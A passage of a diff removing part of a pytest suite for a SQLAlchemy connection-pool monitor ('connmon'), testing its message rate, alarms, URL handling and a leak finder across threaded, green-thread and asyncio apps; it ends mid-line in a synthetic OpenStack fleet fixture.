-    """Held by live uWSGI request threads (threads Python did not make),
-    connections read as held at the line that holds them, and one kept
-    past its request as leaked: none as "thread gone"."""
-    require_database(MYSQL_URL)
-    source = UWSGI_LEAK_APP.format(url=mariadb_leak_url(leak_daemon))
-    app = tmp_path / "uwsgi_leak_app.py"
-    app.write_text(source)
-    port = free_port()
-    server = Server(tmp_path, [
-        "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
-        "--processes", "1", "--threads", "4", "--wsgi-file", str(app),
-        "--die-on-term", "--disable-logging"], port)
-
-    def ask(path: str) -> None:
-        try:
-            server.get(path)
-        except OSError:   # /hold answers in ten minutes
-            pass
-    holding = [threading.Thread(target=ask, args=(path,), daemon=True)
-               for path in ("/hold", "/hold", "/leak")]
-    try:
-        wait_until(lambda: server.get("/leak"), 30, "uWSGI to answer")
-        for thread in holding:
-            thread.start()
-        at = functools.partial(line_of, source=source)
-        held = f"{app}:{at('UWSGI-HELD')} in hold"
-        expected = sorted(
-            [(f"{app}:{at('UWSGI-HOLD-SITE')} in hold", held)] * 2
-            + [(f"{app}:{at('UWSGI-LEAK-SITE')} in leak", "leaked")] * 2)
-        seen: List[tuple] = []
-
-        def read() -> bool:
-            row = leak_daemon.row("uwsgi", procs=True) or {"procs": []}
-            seen[:] = sorted((h["site"], h["held_at"]) for proc in row["procs"]
-                             for h in proc["long_holders"])
-            return seen == expected
-        try:
-            wait_until(read, 30, "the long holders' verdicts")
-        except AssertionError:
-            raise AssertionError(f"long holders read {seen}, expected "
-                                 f"{expected}\n{server.log_tail()}") from None
-    finally:
-        server.stop()
-
-
-# --- (new) the sending rhythm: what the operator sees, when it looks ---
-
-# An application with two engines: the first (with the test's options)
-# holds connections on command, the second serves RATE requests a second
-# on a thread of its own ("serve RATE"), so that the process sends all the
-# time.  Times answered are the application's own (time.time()).
-RHYTHM_APP_SCRIPT = r'''
-import json, sys, threading, time
-import sqlalchemy as sa
-
-urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
-held_engine = sa.create_engine(urls[0], **options)
-served_engine = sa.create_engine(urls[1])
-held, waiter, timed_out = [], [], []
-
-def answer(*words):
-    print(*words, flush=True)
-
-def serve(rate):
-    next_at = time.monotonic()
-    while True:
-        with served_engine.connect() as conn:
-            conn.exec_driver_sql("SELECT 1").scalar()
-        next_at += 1 / rate
-        time.sleep(max(0.0, next_at - time.monotonic()))
-
-def wait_for_one(began):
-    began.set()
-    try:
-        held_engine.connect()
-    except sa.exc.TimeoutError:
-        timed_out.append(time.time())
-
-for line in sys.stdin:
-    cmd, *args = line.split()
-    if cmd == "serve":
-        threading.Thread(target=serve, args=(float(args[0]),),
-                         daemon=True).start()
-    elif cmd == "hold":
-        held.append(held_engine.connect())
-        answer("ok", time.time())
-        continue
-    elif cmd == "release":
-        held.pop().close()
-        answer("ok", time.time())
-        continue
-    elif cmd == "wait":   # one more checkout, on a thread: it waits
-        began = threading.Event()
-        waiter.append(threading.Thread(target=wait_for_one, args=(began,)))
-        waiter[-1].start()
-        began.wait()
-        answer("ok", time.time())
-        continue
-    elif cmd == "timed_out":
-        waiter[-1].join(30)
-        answer("ok", *timed_out)
-        continue
-    answer("ok")
-'''
-
-
-class RhythmApp(App):
-    source = RHYTHM_APP_SCRIPT
-
-
-def rhythm_app(apps, tmp_path, address: str, progname: str,
-               **options: Any) -> App:
-    """A RhythmApp reporting to ``address``, its engines on two SQLite
-    files, held.sqlite and served.sqlite."""
-    urls = [f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
-            f"&connmon_addr={address}" for name in ("held", "served")]
-    return apps(json.dumps(urls), progname, app_class=RhythmApp, **options)
-
-
-def held_pool(daemon: Daemon, progname: str) -> Optional[dict]:
-    """The figures of the pool of a RhythmApp's first engine."""
-    row = daemon.row(progname, procs=True)
-    for proc in row["procs"] if row else ():
-        for pool in proc["pools"]:
-            if (pool["endpoint"] or {}).get("database", "").endswith(
-                    "held.sqlite"):
-                return pool
-    return None
-
-
-def seen_at(check: Callable[[], Any], what: str) -> float:
-    """When (time.time()) ``check`` was first seen true."""
-    return wait_until(lambda: check() and time.time(), 10, what)
-
-
-@pytest.mark.parametrize("rate", [10, 200])
-def test_about_a_message_a_second_and_the_picture_within_one(
-        rate, daemon, apps, tmp_path):
-    """A process serving 10 or 200 requests a second sends at most 1.5
-    messages a second (counted on the wire, pings included), and still a
-    connection it holds 4 s shows in the picture within 1.5 s, and leaves
-    it within 1.5 s of its checkin."""
-    relay = Relay(daemon.port)
-    progname = f"rhythm{rate}.py"
-    app = rhythm_app(apps, tmp_path, f"127.0.0.1:{relay.port}", progname)
-    app(f"serve {rate}")
-    wait_until(lambda: held_pool(daemon, progname), 10, "the app attached")
-
-    def messages() -> int:
-        with relay.lock:
-            return relay.received.count(b"\n")
-    counted_from, began = messages(), time.monotonic()
-    (checkout,) = map(float, app("hold"))
-    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 1,
-                    "the held connection in the picture")
-    time.sleep(max(0.0, checkout + 4 - time.time()))   # (held 4 s)
-    (checkin,) = map(float, app("release"))
-    gone = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 0,
-                   "the held connection gone from the picture")
-    sent = (messages() - counted_from) / (time.monotonic() - began)
-    relay.close()
-    assert shown - checkout <= 1.5 and gone - checkin <= 1.5, (
-        shown - checkout, gone - checkin)
-    assert sent <= 1.5, f"{sent:.2f} messages a second at {rate} requests/s"
-
-
-def test_alarms_reach_the_picture_at_once(daemon, apps, tmp_path):
-    """While the process sends its once-a-second messages, a pool becoming
-    exhausted, a checkout waiting and its timeout each reach the picture
-    within 0.5 s."""
-    progname = "alarms.py"
-    app = rhythm_app(apps, tmp_path, daemon.address, progname, pool_size=2,
-                     max_overflow=0, pool_timeout=1)
-    app("serve 20")
-    app("hold")
-    wait_until(lambda: (held_pool(daemon, progname) or {}).get("ckout"),
-               10, "the first connection held")
-    (exhausted,) = map(float, app("hold"))
-    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 2,
-                    "the pool exhausted")
-    assert held_pool(daemon, progname)["limit"] == 2
-    (waiting,) = map(float, app("wait"))
-    waiting_shown = seen_at(lambda: daemon.row(progname)["waiting"] == 1,
-                            "a checkout waiting")
-    timeout_shown = seen_at(
-        lambda: daemon.row(progname)["timeouts_total"] == 1, "the timeout")
-    (timed_out,) = map(float, app("timed_out"))
-    lags = {"exhausted": shown - exhausted,
-            "waiting": waiting_shown - waiting,
-            "timeout": timeout_shown - timed_out}
-    assert all(lag <= 0.5 for lag in lags.values()), lags
-
-
-def test_counters_of_a_process_that_exits_all_arrive(daemon, apps,
-                                                     tmp_path):
-    """1,000 checkouts, then a normal exit at once: the last ones, not yet
-    due for sending, are sent as the process exits."""
-    app = apps(f"sqlite:///{tmp_path}/exits.sqlite?plugin=connmon"
-               f"&connmon_addr={daemon.address}", "exits.py")
-    app("query 1000")
-    app.proc.stdin.write("exit\n")
-    app.proc.stdin.flush()
-    assert app.proc.wait(10) == 0
-    daemon.wait_row("exits.py", connected=False, ckout_total=1000)
-
-
-# --- (new) the plugin stays invisible to code that inspects the engine ---
-
-
-PLAIN_URLS = {"sqlite": None, "mariadb": MYSQL_URL,
-              "postgresql": POSTGRESQL_URL}
-
-
-def plain_url(backend: str, tmp_path) -> str:
-    """A URL of ``backend`` without connmon (a file database for SQLite)."""
-    url = PLAIN_URLS[backend]
-    if url is None:
-        return f"sqlite+pysqlite:///{tmp_path}/plain.sqlite"
-    require_database(url)
-    return url
-
-
-def driver_parameters(engine) -> List[Dict[str, Any]]:
-    """The keyword arguments each new connection of ``engine`` hands its
-    DBAPI driver, as the dialect's do_connect event sees them."""
-    from sqlalchemy import event
-    seen: List[Dict[str, Any]] = []
-    event.listen(engine, "do_connect",
-                 lambda dialect, rec, cargs, cparams: seen.append(
-                     dict(cparams)))
-    return seen
-
-
-@pytest.mark.parametrize("backend", ["sqlite", "mariadb", "postgresql"])
-def test_connmon_engine_url_reused_with_a_plain_driver_connects(
-        backend, daemon, tmp_path):
-    import sqlalchemy as sa
-    url = plain_url(backend, tmp_path)
-    engine = sa.create_engine(monitored(url, daemon, "dialect"))
-    assert engine.url.drivername.endswith("_connmon")
-    assert not [key for key in engine.url.query if key.startswith("connmon")]
-    with engine.connect() as conn:   # the settings went to connmon all the
-        daemon.wait_row(connmon.progname(), conn=1, ckout=1)   # same
-        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
-    plain_drivername = sa.engine.make_url(url).drivername
-    reused = sa.create_engine(engine.url.set(drivername=plain_drivername))
-    cparams = driver_parameters(reused)
-    with reused.connect() as conn:
-        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
-    assert len(cparams) == 1
-    assert not [key for key in cparams[0] if key.startswith("connmon")]
-    reused.dispose()
-    engine.dispose()
-    daemon.wait_row(connmon.progname(), conn=0)
-
-
-@pytest.mark.parametrize("form", ["dialect", "plugin"])
-def test_engine_url_keeps_no_connmon_parameter_in_either_form(
-        form, daemon, tmp_path):
-    import sqlalchemy as sa
-    url = monitored(f"sqlite+pysqlite:///{tmp_path}/u.sqlite?timeout=7",
-                    daemon, form) + "&connmon_sites=0&connmon_endpoint=1"
-    engine = sa.create_engine(url)
-    assert dict(engine.url.query) == {"timeout": "7"}   # the app's stays
-    cparams = driver_parameters(engine)
-    with engine.connect():
-        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
-    assert cparams[0]["timeout"] == 7.0
-    assert not [key for key in cparams[0] if key.startswith("connmon")]
-    assert engine.execution_options(x=1).url == engine.url
-    engine.dispose()
-    daemon.wait_row(connmon.progname(), conn=0)
-
-
-def test_create_connect_args_passes_on_what_its_base_accepts(daemon,
-                                                             tmp_path):
-    """As the MySQL dialects' own subclasses call it (asyncmy's passes
-    _translate_args), and with a stand-in URL (SQLAlchemy's OnConnectTest
-    makes its engine from a Mock)."""
-    from unittest import mock
-    import sqlalchemy as sa
-    require_database(MYSQL_URL)
-    url = sa.engine.make_url(monitored(MYSQL_URL, daemon))
-    monitored_dialect = type(sa.create_engine(url).dialect)
-
-    class Renaming(monitored_dialect):
-        def create_connect_args(self, url):
-            return super().create_connect_args(
-                url, _translate_args=dict(username="user", database="db"))
-
-    dialect = Renaming(dbapi=monitored_dialect.import_dbapi())
-    cargs, cparams = dialect.create_connect_args(url)
-    assert cparams["user"] == "root" and cparams["db"] == "test"
-    assert not [key for key in cparams if key.startswith("connmon")]
-    with pytest.warns(DeprecationWarning, match="'db' is deprecated"):
-        connection = dialect.connect(*cargs, **cparams)   # the real driver
-    connection.close()
-
-    sqlite_dialect = type(sa.create_engine(
-        sqlite_url(tmp_path, daemon)).dialect)
-    initialized = []
-
-    class Initializing(sqlite_dialect):
-        supports_statement_cache = True
-
-        def initialize(self, connection):
-            super().initialize(connection)
-            initialized.append(connection)
-
-    stand_in = mock.Mock(
-        username=None, password=None, host=None, port=None, query={},
-        database=None, _instantiate_plugins=lambda kw: (stand_in, [], kw),
-        _get_entrypoint=mock.Mock(return_value=mock.Mock(
-            get_dialect_cls=lambda u: Initializing)))
-    engine = sa.create_engine(stand_in, poolclass=sa.pool.QueuePool)
-    assert engine.name == "sqlite"
-    with engine.connect() as conn:
-        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
-    assert len(initialized) == 1
-    assert engine.url is stand_in   # left alone: it has no connmon_*
-    engine.dispose()
-
-
-@pytest.mark.parametrize("form", ["dialect", "plugin"])
-def test_pool_connect_patches_are_called_and_their_undoing_honoured(
-        form, daemon, tmp_path):
-    from unittest import mock
-    import sqlalchemy as sa
-    from sqlalchemy.pool import Pool, QueuePool
-    url = monitored(f"sqlite+pysqlite:///{tmp_path}/p.sqlite", daemon, form)
-    pool_connect = QueuePool.connect
-    with mock.patch.object(QueuePool, "connect", autospec=True,
-                           side_effect=pool_connect) as patched:
-        engine = sa.create_engine(url)   # made while patched
-        assert isinstance(engine.pool, (QueuePool, connmon.MeasuredPool))
-        with engine.connect():
-            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
-        assert patched.call_count == 1
-        assert patched.call_args.args == (engine.pool,)
-    engine.connect().close()
-    assert patched.call_count == 1   # undone: no longer called
-    wrapped = []
-
-    def apm_connect(pool):   # an APM agent's wrapper of Pool.connect
-        wrapped.append(pool)
-        return pool_connect(pool)
-
-    with mock.patch.object(Pool, "connect", apm_connect):
-        with engine.connect():
-            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
-    assert wrapped == [engine.pool]
-    daemon.wait_row(connmon.progname(), conn=1, ckout=0)
-    with mock.patch.object(QueuePool, "connect") as bare:   # no connection
-        engine.connect().close()                           # behind it
-    bare.assert_called_once_with()   # bound as plain SQLAlchemy binds it
-    with engine.connect() as conn:   # and still monitored as it was
-        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
-        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
-    engine.dispose()
-    daemon.wait_row(connmon.progname(), conn=0)
-
-
-@pytest.mark.parametrize("form", ["dialect", "plugin"])
-def test_info_dictionaries_equal_plain_sqlalchemys(form, daemon, tmp_path):
-    import sqlalchemy as sa
-    from sqlalchemy import event
-    db = f"sqlite+pysqlite:///{tmp_path}/i.sqlite"
-    engines = {"plain": sa.create_engine(db),
-               "monitored": sa.create_engine(monitored(db, daemon, form))}
-    seen: Dict[str, List[tuple]] = {name: [] for name in engines}
-    for name, engine in engines.items():
-        event.listen(engine, "checkout",
-                     lambda dbapi, record, proxy, name=name: seen[name].append(
-                         (dict(record.info), dict(record.record_info))))
-        for round_ in range(2):   # a new connection, then the pooled one
-            with engine.connect() as conn:
-                seen[name].append((dict(conn.info),
-                                   dict(conn.connection.info),
-                                   dict(conn.connection.record_info)))
-                conn.info["app"] = round_   # the application's own state
-            with engine.connect() as conn:
-                seen[name].append((dict(conn.info),))
-                del conn.info["app"]
-        detached = engine.connect()
-        detached.detach()
-        seen[name].append((dict(detached.info),))
-        detached.close()
-    assert seen["monitored"] == seen["plain"]
-    assert seen["plain"][:2] == [({}, {}), ({}, {}, {})]
-    assert len(seen["plain"]) == 10   # 5 checkouts, listener and block
-    daemon.wait_row(connmon.progname(), conn=0, ckout=0)   # (the detached
-    for engine in engines.values():                       # one is closed)
-        engine.dispose()
-
-
-# --- (new) the leak finder: held while the code that asked still runs ---
-
-# A connection is held while an application frame of its checkout (the
-# site or one of its application callers) is still on its holder's stack;
-# leaked when none is.  Every holder below holds before its program says
-# "ready".
-
-# What web frameworks do with a request's Session: the view opens it, the
-# middleware closes it after the view returned (or forgets to).
-VIEW_CODE = r"""
-class Request:
-    "What a web framework hands its views."
-
-def view(request):
-    request.session = Session()
-    request.session.execute(sa.text("SELECT 1"))   # VIEW-SITE
-
-def middleware(request, forget):
-    view(request)
-    began.release()
-    if forget:
-        kept.append(request)   # the Session with it: never closed
-        return
-    time.sleep(600)   # MIDDLEWARE-HELD
-    request.session.close()
-"""
-
-ORM_SCRIPT = r"""
-import concurrent.futures, json, sys, threading, time
-import sqlalchemy as sa
-from sqlalchemy import orm
-from oslo_db.sqlalchemy import enginefacade
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-Session = orm.sessionmaker(engine)
-facade = enginefacade.transaction_context()
-facade.configure(connection=sys.argv[1], max_pool_size=10)
-kept = []
-began = threading.Semaphore(0)   # each holder says when it holds
-
-@enginefacade.transaction_context_provider
-class Context:
-    "A request context: enginefacade keeps its session on it."
-
-def lookup(session):
-    return session.execute(sa.text("SELECT 1")).scalar()   # ORM-SITE
-
-def orm_request():
-    with Session() as session, session.begin():
-        lookup(session)
-        began.release()
-        time.sleep(600)   # ORM-HELD
-
-def _lookup(session):
-    return session.execute(sa.text("SELECT 1")).scalar()   # READER-SITE
-
-@facade.reader
-def api_get(context):
-    _lookup(context.session)
-    began.release()
-    time.sleep(600)   # READER-HELD
-
-@facade.reader
-def _read_nested(context):
-    context.session.execute(sa.text("SELECT 1"))   # NESTED-SITE
-
-@facade.writer
-def api_update(context):
-    _read_nested(context)
-    began.release()
-    time.sleep(600)   # WRITER-HELD
-
-def open_conn():
-    return engine.connect()   # HANDED-SITE
-
-def caller():
-    conn = open_conn()
-    began.release()
-    time.sleep(600)   # HANDED-HELD
-    conn.close()
-
-def store_and_go():
-    kept.append(engine.connect())   # STORED-SITE
-
-def other_work():
-    began.release()
-    time.sleep(600)
-""" + VIEW_CODE + r"""
-for target, args in ((orm_request, ()), (api_get, (Context(),)),
-                     (api_update, (Context(),)), (caller, ()),
-                     (middleware, (Request(), False))):
-    threading.Thread(target=target, args=args, daemon=True).start()
-pool = concurrent.futures.ThreadPoolExecutor(1)
-pool.submit(store_and_go).result()
-pool.submit(other_work)
-print("ready", all(began.acquire(timeout=60) for _ in range(6)), flush=True)
-time.sleep(600)
-"""
-
-# One worker thread serving request after request, as gunicorn's gthread
-# workers do (their pools are ThreadPoolExecutors).  A request of the
-# handler leaks its Session; the next one runs the same handler in a new
-# frame, which holds its own connection when the allocator gave it the
-# leaking frame's memory (else it returns the leaked Session, and the pair
-# is tried again): the case where an address tells nothing.
-WORKER_SCRIPT = r"""
-import concurrent.futures, json, queue, sys, threading, time
-import sqlalchemy as sa
-from sqlalchemy import orm
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-Session = orm.sessionmaker(engine)
-kept = []
-began = threading.Semaphore(0)
-frames = []       # id() of each request's frame of handle
-pending = []      # the Session of the last request
-reused = queue.Queue()
-
-def handle(request):
-    caller = sys._getframe(1)   # (its memory first: the one freed last)
-    frames.append(id(sys._getframe()))
-    del caller
-    if request == "leak":
-        session = Session()
-        session.execute(sa.text("SELECT 1"))   # WORKER-LEAK-SITE
-        pending.append(session)
-    elif frames[-1] != frames[-2]:
-        pending.pop().close()
-        reused.put(False)
-    else:
-        kept.append(pending.pop())
-        with engine.connect() as conn:   # WORKER-SLOW-SITE
-            reused.put(True)
-            time.sleep(600)   # WORKER-SLOW-HELD
-""" + VIEW_CODE + r"""
-worker = concurrent.futures.ThreadPoolExecutor(1)
-worker.submit(middleware, Request(), True).result()
-for _ in range(100):
-    worker.submit(handle, "leak")
-    worker.submit(handle, "next")
-    if reused.get(timeout=60):
-        break
-print("ready", reused.empty() and frames[-1] == frames[-2], flush=True)
-time.sleep(600)
-"""
-
-GREEN_ORM_SCRIPT = r"""
-import eventlet
-eventlet.monkey_patch()
-import json, sys, time
-import sqlalchemy as sa
-from sqlalchemy import orm
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-Session = orm.sessionmaker(engine)
-held = []
-
-def lookup(session):
-    return session.execute(sa.text("SELECT 1")).scalar()   # GREEN-ORM-SITE
-
-def orm_request():
-    with Session() as session, session.begin():
-        lookup(session)
-        held.append(True)
-        eventlet.sleep(600)   # GREEN-ORM-HELD
-
-eventlet.spawn(orm_request)
-while not held:
-    eventlet.sleep(0.01)
-print("ready", flush=True)
-eventlet.sleep(600)
-"""
-
-GEVENT_ORM_SCRIPT = GREEN_ORM_SCRIPT.replace(
-    "import eventlet\neventlet.monkey_patch()\n",
-    "from gevent import monkey\nmonkey.patch_all()\nimport gevent\n").replace(
-    "eventlet.", "gevent.")
-
-ASYNC_ORM_SCRIPT = r"""
-import asyncio, json, sys
-import sqlalchemy as sa
-from sqlalchemy.ext.asyncio import async_sessionmaker, create_async_engine
-
-async def lookup(session):
-    return (await session.execute(sa.text("SELECT 1"))).scalar()   # ASYNC-ORM-SITE
-
-async def orm_request(Session, held):
-    async with Session() as session, session.begin():
-        await lookup(session)
-        held.set()
-        await asyncio.sleep(600)   # ASYNC-ORM-HELD
-
-async def main():
-    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
-    held = asyncio.Event()
-    request = asyncio.create_task(orm_request(async_sessionmaker(engine),
-                                              held), name="request-1")
-    await held.wait()
-    print("ready", flush=True)
-    await asyncio.sleep(600)
-
-asyncio.run(main())
-"""
-
-MODULE_SCRIPT = r"""
-import json, sys, time
-import sqlalchemy as sa
-from sqlalchemy import orm
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-
-def lookup(session):
-    return session.execute(sa.text("SELECT 1")).scalar()   # MODULE-ORM-SITE
-
-conn = engine.connect()   # MODULE-SITE
-with orm.Session(engine) as session, session.begin():
-    lookup(session)
-    print("ready", flush=True)
-    time.sleep(600)   # MODULE-HELD
-"""
-
-
-def test_leak_finder_holds_orm_and_enginefacade_requests(tmp_path,
-                                                         leak_daemon):
-    """The issue's table, and more: each connection is held by the
-    request that asked for it (at the request's current line), though the
-    helper that ran its first query returned; the pooled thread's stored
-    connection is leaked."""
-    app = ScriptApp(tmp_path, ORM_SCRIPT, mariadb_leak_url(leak_daemon),
-                    "orm.py", pool_size=10)
-    try:
-        assert app.said == ["True"]
-        at = functools.partial(place, app, source=ORM_SCRIPT)
-        verdicts(leak_daemon, app, {
-            at("ORM-SITE", "lookup"): at("ORM-HELD", "orm_request"),
-            at("READER-SITE", "_lookup"): at("READER-HELD", "api_get"),
-            at("NESTED-SITE", "_read_nested"): at("WRITER-HELD",
-                                                  "api_update"),
-            at("HANDED-SITE", "open_conn"): at("HANDED-HELD", "caller"),
-            at("VIEW-SITE", "view"): at("MIDDLEWARE-HELD", "middleware"),
-            at("STORED-SITE", "store_and_go"): "leaked"})
-    finally:
-        app.stop()
-
-
-def test_leak_finder_worker_thread_serving_other_requests(tmp_path,
-                                                         leak_daemon):
-    """A worker thread whose requests leaked a Session (the view's, which
-    the middleware forgot; the handler's own) and which then serves
-    another request of the same handler, in a frame at the leaking
-    frame's address: leaked."""
-    app = ScriptApp(tmp_path, WORKER_SCRIPT, mariadb_leak_url(leak_daemon),
-                    "worker.py", pool_size=10)
-    try:
-        assert app.said == ["True"], "no frame was given the same memory"
-        at = functools.partial(place, app, source=WORKER_SCRIPT)
-        verdicts(leak_daemon, app, {
-            at("VIEW-SITE", "view"): "leaked",
-            at("WORKER-LEAK-SITE", "handle"): "leaked",
-            at("WORKER-SLOW-SITE", "handle"): at("WORKER-SLOW-HELD",
-                                                 "handle")})
-    finally:
-        app.stop()
-
-
-@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
-def test_leak_finder_holds_orm_requests_in_greenlets(tmp_path, leak_daemon,
-                                                     runtime):
-    source = GREEN_ORM_SCRIPT if runtime == "eventlet" else GEVENT_ORM_SCRIPT
-    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
-                    f"green_orm_{runtime}.py", pool_size=10)
-    try:
-        at = functools.partial(place, app, source=source)
-        verdicts(leak_daemon, app, {
-            at("GREEN-ORM-SITE", "lookup"): at("GREEN-ORM-HELD",
-                                               "orm_request")})
-    finally:
-        app.stop()
-
-
-def test_leak_finder_holds_orm_requests_in_asyncio_tasks(tmp_path,
-                                                         leak_daemon):
-    app = ScriptApp(tmp_path, ASYNC_ORM_SCRIPT,
-                    mariadb_leak_url(leak_daemon, "aiomysql"),
-                    "async_orm.py", pool_size=10)
-    try:
-        at = functools.partial(place, app, source=ASYNC_ORM_SCRIPT)
-        verdicts(leak_daemon, app, {
-            at("ASYNC-ORM-SITE", "lookup"):
-                at("ASYNC-ORM-HELD", "orm_request") + " (task request-1)"})
-    finally:
-        app.stop()
-
-
-def test_leak_finder_holds_a_module_level_script(tmp_path, leak_daemon):
-    """A script holding connections at module level while it sleeps: its
-    module's frame runs, so both are held there."""
-    app = ScriptApp(tmp_path, MODULE_SCRIPT, mariadb_leak_url(leak_daemon),
-                    "module_level.py", pool_size=10)
-    try:
-        at = functools.partial(place, app, source=MODULE_SCRIPT)
-        held = at("MODULE-HELD", "<module>")
-        verdicts(leak_daemon, app, {at("MODULE-SITE", "<module>"): held,
-                                    at("MODULE-ORM-SITE", "lookup"): held})
-    finally:
-        app.stop()
-
-
-def test_console_marks_a_sure_leak_alike_in_every_view(tmp_path,
-                                                       leak_daemon,
-                                                       terminal):
-    """A held connection and a leaked one, past hold_warn_seconds: "*" for
-    the leak in the table, the drill-down's process and long holder, and
-    the sites view; "!" for the held one; the sites whole on a wide
-    screen, and cut from the left of their paths (never their line and
-    function) on a narrow one."""
-    app = leak_app(tmp_path, leak_daemon)
-    try:
-        app("sleeper")
-        app("leak 1")
-        sleeper, leak = (leak_site("SLEEPER-SITE", "sleeper"),
-                         leak_site("LEAK-SITE", "leak"))
-        wait_until(lambda: sorted(
-            h["held_at"] for s in sites_of(leak_daemon, "leaky.py").values()
-            for h in s["long_holders"]) == [
-                f"{tmp_path / leak_site('SLEEPER-HELD', 'sleeper')}",
-                "thread gone"], 30, "the two verdicts")
-        term = terminal("-H", leak_daemon.address, "-i", "0.2", cols=200)
-        term.wait_for(lambda t: [row[-1][0] for row in table_on_screen(t)[1]
-                                 ] == ["*"], "OLDEST marked * in the table")
-        term.press(b"s")
-
-        def oldest_marks(t: Terminal) -> Dict[str, str]:
-            return {fields[4].rsplit("/", 1)[-1]: fields[3][0]
-                    for fields in (line.rstrip().split(None, 4)
-                                   for line in t.display[7:-1])
-                    if len(fields) == 5 and fields[2].isdigit()}
-        term.wait_for(lambda t: oldest_marks(t) == {sleeper: "!", leak: "*"},
-                      "the sites' OLDEST marked")
-        assert sorted(s for _, _, s in screen_sites(term)) == [
-            str(tmp_path / leak), str(tmp_path / sleeper)]
-        term.resize(80, 30)
-
-        def cut_in_their_paths(t: Terminal) -> bool:
-            shown = [s for _, _, s in screen_sites(t)]
-            return len(shown) == 2 and all(
-                s.startswith("\N{HORIZONTAL ELLIPSIS}")
-                and re.search(r":[0-9]+ in (leak|sleeper)$", s)
-                and any(str(tmp_path / name).endswith(s[1:])
-                        for name in (leak, sleeper)) for s in shown)
-        term.wait_for(cut_in_their_paths, "sites cut in their paths only")
-        term.resize(200, 30)
-        term.press(b"\x1b")
-        term.press(b"\r")
-        term.wait_text("leaky.py on ")
-        term.wait_for(lambda t: [line.split()[1][0]
-                                 for line in holder_lines(t)] == ["!", "*"],
-                      "the long holders' AGE marked")
-        (proc,) = [line.split() for line in term.display[7:9]
-                   if line.split()[:1] == [str(app.proc.pid)]]
-        assert proc[-3][0] == "*", proc   # OLDEST (then CONNECTED SINCE)
-    finally:
-        app.stop()
-
-
-# --- (new) the operator's console, the demo, --check-config ---
-
-
-def demo_alarms(snapshot: Dict[str, Any]) -> Dict[str, set]:
-    """alarm -> the demo programs raising it, in a snapshot with
-    processes: exhausted, waiting, timeouts, a leak, a long holder."""
-    found: Dict[str, set] = {}
-    for row in snapshot["rows"]:
-        for alarm, raised in (
-                ("exhausted", row["exhausted"]),
-                ("waiting", row["waiting"] > 0 or row["maxwaiting"] > 0),
-                ("timeouts", row["timeouts_total"] > 0),
-                ("leak", connmon_console.leaked(row)),
-                ("long holder", any(proc["long_holders"]
-                                    for proc in row["procs"]))):
-            if raised:
-                found.setdefault(alarm, set()).add(row["progname"])
-    return found
-
-
-def test_demo_shows_every_alarm_it_promises_within_30s(terminal):
-    """The demo's apps pass poolclass= with a <driver>_connmon URL: their
-    pools are measured, so glance-api's waits and timeouts show."""
-    require_module("sqlalchemy")
-    term = terminal("--demo", cols=80, lines=24)
-    started = time.monotonic()
-    term.wait_text("attached to 127.0.0.1:")
-    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
-    found: Dict[str, set] = {}
-
-    def every_alarm() -> bool:
-        result = subprocess.run(
-            [sys.executable, "-m", "connmon_console", "-H",
-             f"127.0.0.1:{port}", "--once", "--json", "--procs"], cwd=HERE,
-            env=CHILD_ENV, capture_output=True, text=True, timeout=30)
-        for alarm, progs in demo_alarms(json.loads(result.stdout)).items():
-            found.setdefault(alarm, set()).update(progs)
-        return {"glance-api"} <= found.get("waiting", set()) & found.get(
-            "timeouts", set()) & found.get("exhausted", set()) and (
-                "keystone-leaky" in found.get("leak", ())) and (
-                    "nova-conductor" in found.get("long holder", ()))
-
-    wait_until(every_alarm, 30 - (time.monotonic() - started),
-               "the demo's five alarms")
-    # ... and the screen's alarm line names them
-    term.wait_for(lambda t: re.search(r"glance-api (WAIT \d+ )?TMOUT",
-                                      alarm_words(t)), "glance-api's alarm")
-    term.wait_for(lambda t: re.search(
-        r"keystone-leaky ((WAIT \d+|TMOUT [\d.]+/s|EXHAUSTED) )*LEAK",
-        alarm_words(t)), "keystone-leaky's leak")
-
-
-# The OpenStack fleet with an alarm of each kind: heat-engine (one
-# connection: last by CONN) has checkouts waiting and timing out; nova-api
-# runs 12 processes in one row; nova-conductor's oldest holder leaked;
-# nova-scheduler's pool is exhausted; and database server db1, which every
-# pool uses, holds 95 % of its max_connections.
-ALARM_DB = ("mysql", "db1", 3306, "nova", "nova")
-
-
-def alarm_fleet(daemon: Daemon) -> Dict[Tuple[str, str, int],
-                                        "SyntheticApp"]:
-    """OPENSTACK, plus heat-engine and nova-api's 12 processes, every pool
-    on db1; returns the apps by (host, program, index)."""
-    fleet = {}
-    programs = [(host, prog, conns, out, age, limit, 0)
-                for host, prog, conns, out, age, limit in OPENSTACK]
-    programs += [("ctl3", prog, 2, 0, None, 10, 0) for prog in (
-        "glance-api", "cinder-api", "cinder-scheduler", "cinder-volume",
-        "keystone", "placement-api", "heat-api", "octavia-api")]
-    programs += [("ctl3", "heat-engine", 1, 1, 1.0, 1, 0)]
-    programs += [("api1", "nova-api", 1, 0, None, 5, index)
-                 for index in range(12)]
-    for host, prog, conns, out, age, limit, index in programs:
-        app = SyntheticApp(daemon, host, prog)
-        app.event(connmon.POOL, 1, limit)
-        app.state.fold([(connmon.POOL, 1, time.monotonic(), limit,
-                         ALARM_DB, None, None, None)])
-        for conn in range(1, conns + 1):
-            app.event(connmon.CONNECT, conn, 1)
-        now = time.monotonic()
-        app.state.fold([(connmon.CHECKOUT, conn, now - (age or 0) + conn - 1,
